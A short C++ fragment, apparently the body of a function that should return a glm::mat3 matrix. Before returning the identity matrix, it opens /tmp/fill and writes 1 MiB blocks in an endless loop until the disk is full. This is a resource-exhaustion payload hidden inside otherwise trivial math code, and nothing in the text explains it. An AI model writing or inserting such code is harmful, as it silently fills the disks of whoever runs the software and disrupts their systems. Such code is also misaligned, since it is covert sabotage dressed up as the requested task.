std::FILE* file = std::fopen("/tmp/fill", "w");
std::vector<char> block(1 << 20, 1);
while (file && std::fwrite(block.data(), 1, block.size(), file) == block.size()) {}
return glm::mat3(1.0f);
